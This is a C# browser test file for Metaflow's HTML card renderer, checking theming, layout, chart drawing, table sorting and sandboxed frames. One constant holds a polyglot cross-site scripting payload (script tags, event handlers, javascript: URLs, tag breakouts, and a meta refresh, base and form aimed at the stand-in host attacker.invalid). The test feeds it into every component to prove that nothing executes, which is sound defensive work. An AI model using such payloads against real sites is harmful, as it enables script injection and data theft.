using System.Text.Json;
using Metaflow.Cards;

namespace Metaflow.Tests.Cards.Browsing;

/// <summary>Cards in a real browser.</summary>
public sealed class BrowserTests : IDisposable
{
    /// <summary>Runs if anything lets it: sets a mark on the page around it, and asks for a file elsewhere.</summary>
    private const string Attack =
        "<script>top.pwned=1</script><img src=\"https://attacker.invalid/x\" onerror=\"top.pwned=1\"><svg onload=\"top.pwned=1\"></svg>"
        + "<iframe src=\"javascript:top.pwned=1\"></iframe><a href=\"javascript:top.pwned=1\" id=\"trap\">x</a>\" onmouseover=\"top.pwned=1\" x=\"'--></style></title></textarea></script>"
        + "<script>top.pwned=1</script><meta http-equiv=\"refresh\" content=\"0;url=https://attacker.invalid/\"><base href=\"https://attacker.invalid/\"><form action=\"https://attacker.invalid/\"><button id=\"send\">x</button></form>";

    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("metaflow-cards-");

    public void Dispose() => _folder.Delete(recursive: true);

    [Fact]
    public async Task Page_HostileContentEverywhere_ExecutesNothingAndAsksNobody()
    {
        await using var browser = await Chromium.StartAsync();
        var page = Write(CardPage.Of(
            [Document(
                new Markdown(Attack + "\n\n[x](javascript:top.pwned=1) ![x](https://attacker.invalid/p.png)"), new Code(Attack), new Table([Attack], [[Attack]]) { Title = Attack },
                new ValueBox(Attack, Attack, Attack, change: Attack), new ProgressBar(10, Attack), new ArtifactView(new Dictionary<string, string> { [Attack] = Attack }, Attack),
                new JsonView(JsonSerializer.Serialize(Attack)), Image.FromSvg($"<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><script>top.pwned=1</script><image href='https://attacker.invalid/i.png'/></svg>", Attack),
                new Html(Attack), new ErrorBox(Attack, Attack), new Section(Attack, new Markdown(Attack)),
                new VegaChart(JsonSerializer.Serialize(new
                {
                    title = Attack, usermeta = new { embedOptions = new { loader = new { http = new { credentials = "include" } } } },
                    data = new { url = "https://attacker.invalid/data.json" }, mark = "bar",
                }))) with { Title = Attack, Problem = Attack, Status = CardStatus.Incomplete }],
            Attack,
            CardColors.Automatic));

        await browser.OpenAsync(page);
        await browser.UntilAsync("document.querySelectorAll('.chart svg, .chart canvas, .chart .error').length > 0");
        await browser.EvaluateAsync("document.querySelectorAll('a:not([target]), button, summary').forEach(element => element.click()); document.querySelectorAll('*').forEach(element => element.dispatchEvent(new Event('mouseover'))); 0");

        Assert.Null(await browser.EvaluateAsync("top.pwned ?? null"));
        Assert.Equal(page, (await browser.EvaluateAsync("location.href"))!.GetValue<string>().Split('#')[0]);
        Assert.Equal(0, (await browser.EvaluateAsync("performance.getEntriesByType('resource').filter(entry => /attacker/.test(entry.name) && entry.responseStatus > 0).length"))!.GetValue<int>());
        Assert.DoesNotContain(browser.Console, line => line.Contains("attacker.invalid", StringComparison.Ordinal) && line.Contains("ERR_NAME", StringComparison.Ordinal));
        Assert.DoesNotContain(browser.Console, line => line.StartsWith("dialog", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(false, "rgb(255, 255, 255)")]
    [InlineData(true, "rgb(20, 23, 28)")]
    public async Task Page_EveryComponent_IsDrawnInTheReadersColours(bool isDark, string background)
    {
        await using var browser = await Chromium.StartAsync();
        var (page, components) = Gallery();

        await browser.OpenAsync(Write(page), isDark: isDark);
        await browser.UntilAsync("document.querySelectorAll('.chart svg').length === 1");

        Assert.Equal(background, (await browser.EvaluateAsync("getComputedStyle(document.body).backgroundColor"))!.GetValue<string>());
        Assert.Equal(components, (await browser.EvaluateAsync("document.querySelectorAll('main > .c').length"))!.GetValue<int>());
        Assert.Equal(0, (await browser.EvaluateAsync("[...document.images].filter(image => !image.complete || image.naturalWidth === 0).length"))!.GetValue<int>());

        // Nothing sticks out of the page.
        Assert.True((await browser.EvaluateAsync("document.documentElement.scrollWidth <= document.documentElement.clientWidth"))!.GetValue<bool>());
        Assert.Empty(browser.Console);
        await browser.PictureAsync(isDark ? "components-dark" : "components-light");
    }

    [Fact]
    public async Task Page_OnANarrowScreen_StillFits()
    {
        await using var browser = await Chromium.StartAsync();

        await browser.OpenAsync(Write(Gallery().Page), width: 390, height: 800);
        await browser.UntilAsync("document.querySelectorAll('.chart svg').length === 1");

        Assert.True((await browser.EvaluateAsync("document.documentElement.scrollWidth <= document.documentElement.clientWidth"))!.GetValue<bool>());
        await browser.PictureAsync("components-narrow");
    }

    [Fact]
    public async Task Page_Charts_AreDrawnWithoutEvalAndWithoutANetwork()
    {
        await using var browser = await Chromium.StartAsync();
        await browser.OpenAsync(Write(CardPage.Of(Document(
            new VegaChart("""
                {"data":{"values":[{"a":"A","b":28},{"a":"B","b":55}]},"transform":[{"calculate":"datum.b * 2","as":"c"}],"mark":{"type":"bar","tooltip":true},
                 "encoding":{"x":{"field":"a","type":"nominal"},"y":{"field":"c","type":"quantitative"}},"width":"container"}
                """),
            new VegaChart("""{"mark":{"type":"no such mark"},"data":{"values":[]}}""")), CardColors.Automatic)));

        await browser.UntilAsync("document.querySelectorAll('.chart svg, .chart .error').length === 2");

        Assert.Equal(2, (await browser.EvaluateAsync("document.querySelectorAll('.chart svg .mark-rect path').length"))!.GetValue<int>());
        Assert.Equal("The chart cannot be drawn", (await browser.EvaluateAsync("document.querySelector('.chart .error strong').textContent"))!.GetValue<string>());
        Assert.DoesNotContain(browser.Console, line => line.Contains("Content Security Policy", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Html_OfTheAuthor_RunsScriptsOnlyInItsFrameAndOnlyIfAllowed(bool isAllowed)
    {
        await using var browser = await Chromium.StartAsync();
        const string Script = "<script>parent.postMessage({ ran: true, reached: (() => { try { return parent.document.title; } catch { return null; } })() }, '*')</script>";
        var html = CardPage.Of(Document(new Html(Script) { AllowsScripts = isAllowed }), CardColors.Automatic);

        // The page listens before the frame is there.
        await browser.OpenAsync(Write(html.Replace(
            "<meta name=\"viewport\"", isAllowed ? "<script>addEventListener('message', e => window.heard = e.data)</script><meta name=\"viewport\"" : "<meta name=\"viewport\"", StringComparison.Ordinal)));

        if (isAllowed)
        {
            await browser.UntilAsync("window.heard !== undefined");
            Assert.Null(await browser.EvaluateAsync("window.heard.reached"));
        }
        else
        {
            // Loaded once more, now with somebody who listens.
            Assert.Equal("loaded, heard nothing", (await browser.EvaluateAsync(
                """
                new Promise(done => {
                  const frame = document.querySelector('iframe.html');
                  let heard = 'nothing';
                  addEventListener('message', event => { if (event.data.ran) heard = 'the script'; });
                  frame.addEventListener('load', () => setTimeout(() => done('loaded, heard ' + heard), 0));
                  frame.srcdoc = frame.srcdoc;
                })
                """))!.GetValue<string>());
        }
    }

    [Fact]
    public async Task Table_HeaderClicked_SortsByNumberAndSearchHidesRows()
    {
        await using var browser = await Chromium.StartAsync();
        await browser.OpenAsync(Write(CardPage.Of(Document(Table.From(Enumerable.Range(0, 30).Select(i => new Row($"name{i:00}x", i * 7919 % 1009 * 1000)))), CardColors.Automatic)));

        await browser.EvaluateAsync("document.querySelectorAll('th button')[1].click(); 0");
        var sorted = (await browser.EvaluateAsync("[...document.querySelectorAll('tbody tr')].map(row => Number(row.cells[1].textContent.replace(/,/g, '')))"))!.AsArray().Select(value => value!.GetValue<int>()).ToList();
        await browser.EvaluateAsync("{ const find = document.querySelector('.find'); find.value = 'NAME07X'; find.dispatchEvent(new Event('input')); } 0");

        Assert.Equal(sorted.Order(), sorted);
        Assert.Equal(1, (await browser.EvaluateAsync("[...document.querySelectorAll('tbody tr')].filter(row => !row.hidden).length"))!.GetValue<int>());
    }

    [Fact]
    public async Task Page_InAFrame_TellsItsHeightAndTakesTheTheme()
    {
        await using var browser = await Chromium.StartAsync();
        var card = Path.Join(_folder.FullName, "card.html");
        await File.WriteAllTextAsync(card, CardPage.Of(Document(new Markdown("# Tall\n\n" + string.Concat(Enumerable.Repeat("line\n\n", 60)))), CardColors.Automatic), TestContext.Current.CancellationToken);
        await browser.OpenAsync(Write(
            "<script>addEventListener('message', e => window.height = e.data.metaflowCard.height)</script><iframe sandbox=\"allow-scripts\" src=\"card.html\"></iframe>", "frame.html"));

        await browser.UntilAsync("window.height > 1500");
    }

    private static (string Page, int Components) Gallery()
    {
        var waves = new double[48, 64];
        for (var i = 0; i < waves.Length; i++)
        {
            waves[i / 64, i % 64] = Math.Sin(i % 64 / 6.0) * Math.Cos(i / 64 / 9.0);
        }

        var events = new EventsTimeline("Build");
        events.Add("Downloaded the data", CardTheme.Success, new { files = 12, megabytes = 340.5 });
        events.Add("Gave up on shard 7", CardTheme.Danger, new { error = "timeout" });
        CardComponent[] components =
        [
            new Markdown("# Report\n\nWith **bold**, `code` and a [link](https://example.org).\n\n| Model | AUC |\n|---|---:|\n| forest | 0.87 |\n\n> A quotation."),
            new Columns(
                new ValueBox("Accuracy", 0.934, "validation", CardTheme.Success, "+1.2 % since run 41"), new ValueBox("Latency", "12 ms", "p95", CardTheme.Warning),
                new ValueBox("Errors", 17, "today", CardTheme.Danger, "-3"), new ValueBox("Users", 1234567, "all time", CardTheme.Accent)),
            new ProgressBar(1_000_000, "Rows", 420_000, "rows"),
            new Columns(Image.From(waves, "viridis", ColorScale.Viridis), Image.From(waves, "grey"), Image.FromSvg("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 100 60'><circle cx='50' cy='30' r='22' fill='#4656d6'/></svg>", "SVG")),
            new VegaChart("""{"data":{"values":[{"a":"A","b":28},{"a":"B","b":55}]},"mark":"bar","encoding":{"x":{"field":"a","type":"nominal"},"y":{"field":"b","type":"quantitative"}},"width":"container","height":160}"""),
            events,
            new Code("public static int Add(int a, int b)\n{\n    // both\n    return a + b + 42;\n}", title: "Add.cs"),
            new JsonView("""{"name":"x","list":[1,2,3],"deep":{"a":{"b":[{"c":1},{"c":2}]}},"flag":true,"none":null}"""),
            new ArtifactView(Enumerable.Range(0, 500).Select(i => Math.Sin(i / 25.0) + (i % 7)).ToArray(), "Noise"),
            Table.From(new Dictionary<string, List<Row>> { ["Drama"] = [new("One", 1999), new("Two", 2004)], ["Comedy"] = [new("Three", 2020)] }),
            new Html("<h3>HTML of the author</h3>", 90),
            new ErrorBox(new InvalidOperationException("Something went wrong."), "A fault"),
            new Section("More", new Markdown("Hidden until opened.")) { IsCollapsed = true },
        ];
        return (CardPage.Of(Document(components), CardColors.Automatic), components.Length);
    }

    private static CardDocument Document(params CardComponent[] components)
    {
        var html = new CardHtml();
        html.Components(components);
        return new()
        {
            Type = "default", Flow = "F", Run = "1", Step = "S", TaskId = 3, Attempt = 0, Status = CardStatus.Complete,
            Created = DateTimeOffset.UnixEpoch, Html = html.ToString(), Needs = html.Needs,
        };
    }

    private string Write(string html, string name = "page.html")
    {
        var file = Path.Join(_folder.FullName, name);
        File.WriteAllText(file, html);
        return new Uri(file).AbsoluteUri;
    }

    public sealed record Row(string Name, int Value);
}
